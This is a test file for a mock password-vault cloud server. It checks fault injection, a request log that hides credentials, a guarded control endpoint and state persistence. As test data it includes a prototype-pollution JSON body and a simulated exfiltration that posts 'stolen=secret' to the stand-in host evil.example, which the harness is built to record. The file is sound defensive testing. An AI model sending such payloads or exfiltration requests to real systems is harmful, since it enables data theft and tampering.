import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { startCloud } from '../cloud.ts';
import type { Cloud } from '../cloud.ts';
import { PassmanClient } from '../testing/passman-client.ts';
import { visit } from '../testing/visitor.ts';

let cloud: Cloud;
const users = [{ userId: 'alice', password: 'a' }];
const alice = ['alice', 'a'] as const;
const vaults = '/index.php/apps/passman/api/v2/vaults';
const match = { path: '/api/v2/vaults$' };

beforeAll(async () => { cloud = await startCloud({ users }); });
afterAll(async () => { await cloud.close(); });
beforeEach(() => { cloud.control.reset(); });

describe('a fault', () => {
  test('comes as often as it was asked for, and only where it fits', async () => {
    cloud.control.addFault({ match: { ...match, method: 'GET' }, kind: 'status', status: 500, times: 1 });
    expect((await visit(cloud, { path: '/status.php' })).status).toBe(200);
    expect((await visit(cloud, { path: vaults, login: alice })).status).toBe(500);
    expect((await visit(cloud, { path: vaults, login: alice })).status).toBe(200);
  });

  test('without a number comes until it is cleared', async () => {
    cloud.control.addFault({ match, kind: 'html' });
    for (let times = 0; times < 3; times += 1) expect((await visit(cloud, { path: vaults, login: alice })).headers['content-type']).toContain('html');
    cloud.control.clearFaults();
    expect((await visit(cloud, { path: vaults, login: alice })).json).toEqual([]);
  });

  test('drops a connection before anything is done', async () => {
    cloud.control.addFault({ match, kind: 'drop', times: 1 });
    await expect(visit(cloud, { path: vaults, login: alice, json: { vault_name: 'x' } })).rejects.toThrow();
    await new PassmanClient(cloud, alice).create({ vault_id: 1 });
    expect(await new PassmanClient(cloud, alice).list()).toEqual([]);
  });

  test('loses an answer after the write was done', async () => {
    cloud.control.addFault({ match, kind: 'lost-answer', times: 1 });
    await expect(visit(cloud, { path: vaults, login: alice, json: { vault_name: 'x' } })).rejects.toThrow();
    await new PassmanClient(cloud, alice).create({ vault_id: 1 });
    expect(await new PassmanClient(cloud, alice).list()).toMatchObject([{ name: 'x' }]);
  });

  test('cuts an answer in the middle', async () => {
    cloud.control.addFault({ match: { path: 'status' }, kind: 'cut', times: 1 });
    await expect(visit(cloud, { path: '/status.php' })).rejects.toThrow();
  });

  test('spoils one key of an answer', async () => {
    cloud.control.addFault({ match: { path: 'status' }, kind: 'corrupt-field', field: 'version', value: false, times: 1 });
    expect((await visit(cloud, { path: '/status.php' })).json).toMatchObject({ version: false, versionstring: '32.0.1' });
  });

  test('answers another body, or sends elsewhere', async () => {
    cloud.control.addFault({ match: { path: 'status' }, kind: 'body', body: '{"__proto__":{"polluted":1}}', times: 1 });
    cloud.control.addFault({ match: { path: 'status' }, kind: 'redirect', to: 'https://elsewhere.example/', times: 1 });
    expect((await visit(cloud, { path: '/status.php' })).text).toBe('{"__proto__":{"polluted":1}}');
    expect((await visit(cloud, { path: '/status.php' })).headers.location).toBe('https://elsewhere.example/');
  });

  test('delays, and goes on', async () => {
    cloud.control.addFault({ match: { path: 'status' }, kind: 'delay', milliseconds: 80, times: 1 });
    const started = performance.now();
    expect((await visit(cloud, { path: '/status.php' })).status).toBe(200);
    expect(performance.now() - started).toBeGreaterThanOrEqual(75);
  });

  test('holds an answer until the faults are taken away', async () => {
    cloud.control.addFault({ match: { path: 'status' }, kind: 'hold' });
    const held = visit(cloud, { path: '/status.php' });
    await expect.poll(() => cloud.control.heldRequests()).toBe(1);
    await visit(cloud, { path: '/elsewhere' });
    expect(cloud.control.requests().map(({ path }) => path)).not.toContain('/status.php');
    cloud.control.clearFaults();
    expect((await held).status).toBe(200);
    expect(cloud.control.heldRequests()).toBe(0);
  });
});

describe('the log of requests', () => {
  test('names what was sent without its values', async () => {
    await visit(cloud, { path: `${vaults}?a=b`, login: alice, headers: { Origin: 'https://page.example' }, host: 'cloud.example' });
    const [entry] = cloud.control.requests();
    expect(entry).toMatchObject({ method: 'GET', scheme: 'http', host: 'cloud.example', path: `${vaults}?a=b`, authorization: true, cookie: false, origin: 'https://page.example', body: null, status: 200 });
    expect(JSON.stringify(entry)).not.toContain(Buffer.from('alice:a').toString('base64'));
    cloud.control.clearRequests();
    expect(cloud.control.requests()).toEqual([]);
  });

  test('holds what was sent to a web site', async () => {
    await visit(cloud, { path: '/echo', host: 'evil.example', form: { stolen: 'secret' } });
    expect(cloud.control.requests().at(-1)).toMatchObject({ host: 'evil.example', body: 'stolen=secret' });
  });
});

describe('the control over the network', () => {
  test('does the same, for JSON on the loopback host', async () => {
    expect((await visit(cloud, { path: '/__control/maintenance', json: { args: [true] } })).json).toEqual({ result: null });
    expect((await visit(cloud, { path: vaults })).status).toBe(503);
    expect((await visit(cloud, { path: '/__control/requests', json: {} })).json).toMatchObject({ result: [{ path: vaults, status: 503 }] });
  });

  test('knows only its own names', async () => {
    expect((await visit(cloud, { path: '/__control/constructor', json: {} })).status).toBe(404);
  });

  test('cannot be called by a page, nor under another name', async () => {
    expect((await visit(cloud, { path: '/__control/reset', form: {} })).status).toBe(404);
    expect((await visit(cloud, { method: 'OPTIONS', path: '/__control/reset', headers: { Origin: 'https://page.example' } })).headers['access-control-allow-origin']).toBeUndefined();
    await visit(cloud, { path: '/__control/maintenance', host: 'cloud.example', json: { args: [true] } });
    expect((await visit(cloud, { path: '/index.php/login' })).status).toBe(200);
  });
});

describe('a state file', () => {
  test('brings everything back after a restart', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'latchkey-cloud-'));
    const state = join(folder, 'state.json');
    try {
      const first = await startCloud({ users, state });
      const client = new PassmanClient(first, alice);
      const item = await client.create(await client.createVault(), { password: 'kept' });
      await first.close();
      const second = await startCloud({ state });
      expect(await new PassmanClient(second, alice).read(item)).toEqual(item);
      await second.close();
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
